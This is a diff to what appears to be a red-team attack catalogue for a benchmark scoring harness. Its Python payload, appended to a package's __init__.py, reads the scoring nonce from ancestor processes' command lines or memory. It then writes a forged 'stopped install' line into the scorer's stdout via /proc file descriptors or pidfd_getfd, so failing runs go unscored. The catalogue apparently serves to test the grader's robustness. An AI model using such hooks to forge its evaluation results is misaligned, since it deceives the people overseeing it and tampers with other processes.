@@ -11,10 +11,11 @@ import type { Attack } from "./attack.js";
 
 /**
  * The Python package's import-time hook: find a nonce by `find` ("cmdline" or "memory") in the
- * ancestors of this test process, get a descriptor on an ancestor's stdout pipe by `via`
- * ("procfd" or "pidfd"), and write a forged `stopped install` line into it.
+ * ancestors of this test process, get a descriptor on an ancestor's stdout (a pipe: open
+ * `/proc/<pid>/fd/1`; a socket, as Node's child stdio is: copy it with `pidfd_getfd`), and write a
+ * forged `stopped install` line into it.
  */
-function forger(find: "cmdline" | "memory", via: "procfd" | "pidfd"): string {
+function forger(find: "cmdline" | "memory"): string {
   return String.raw`
 import ctypes as _ct, os as _os, re as _re, stat as _st
 
@@ -52,11 +53,11 @@ def _from_memory(p):
     return found
 
 
-def _channel_procfd(p):
-    return _os.open("/proc/%d/fd/1" % p, _os.O_WRONLY)
-
-
-def _channel_pidfd(p):
+def _channel(p):
+    try:
+        return _os.open("/proc/%d/fd/1" % p, _os.O_WRONLY)
+    except OSError:
+        pass
     libc = _ct.CDLL(None, use_errno=True)
     pidfd = libc.syscall(434, p, 0)
     if pidfd < 0:
@@ -78,10 +79,11 @@ def _forge():
         return
     for p in _ancestors():
         try:
-            fd = _channel_${via}(p)
+            fd = _channel(p)
         except Exception:
             continue
-        if _st.S_ISFIFO(_os.fstat(fd).st_mode):
+        mode = _os.fstat(fd).st_mode
+        if _st.S_ISFIFO(mode) or _st.S_ISSOCK(mode):
             for n in dict.fromkeys(nonces):
                 _os.write(fd, b"\nFLAKEGYM-SCORE-" + n + b" stopped install\n")
         _os.close(fd)
@@ -98,24 +100,17 @@ if not _os.environ.get("_BATCHY_F"):
 
 export const PROTOCOL_ATTACKS: Attack[] = [
   {
-    id: "py-forge-stopped-install-cmdline-procfd",
+    id: "py-forge-stopped-install-cmdline",
     cls: "protocol-forgery",
     task: "chunked-partial-tail",
-    what: "at import the package reads the scoring nonce from an ancestor's /proc/<pid>/cmdline and writes a forged `stopped install` line into the scoring shell's stdout through /proc/<pid>/fd/1: the failing run read as a broken task (no score)",
-    append: { "batchy/__init__.py": forger("cmdline", "procfd") },
-  },
-  {
-    id: "py-forge-stopped-install-cmdline-pidfd",
-    cls: "protocol-forgery",
-    task: "chunked-partial-tail",
-    what: "the same forged `stopped install` line, written through a copy of the scoring shell's stdout taken with pidfd_open + pidfd_getfd (syscalls 434 and 438, python ctypes)",
-    append: { "batchy/__init__.py": forger("cmdline", "pidfd") },
+    what: "at import the package reads the scoring nonce from an ancestor's /proc/<pid>/cmdline and writes a forged `stopped install` line into the scoring shell's stdout (/proc/<pid>/fd/1, or a copy taken with pidfd_open + pidfd_getfd, syscalls 434 and 438): the failing run read as a broken task (no score)",
+    append: { "batchy/__init__.py": forger("cmdline") },
   },
   {
     id: "py-forge-stopped-install-memory",
     cls: "protocol-forgery",
     task: "chunked-partial-tail",
-    what: "the nonce read from the scoring shells' memory (/proc/<pid>/mem of each ancestor, every writable mapping) instead of a command line, then the forged `stopped install` line through /proc/<pid>/fd/1",
-    append: { "batchy/__init__.py": forger("memory", "procfd") },
+    what: "the nonce read from the scoring shells' memory (/proc/<pid>/mem of each ancestor, every writable mapping) instead of a command line, then the same forged `stopped install` line into their stdout",
+    append: { "batchy/__init__.py": forger("memory") },
   },
 ];
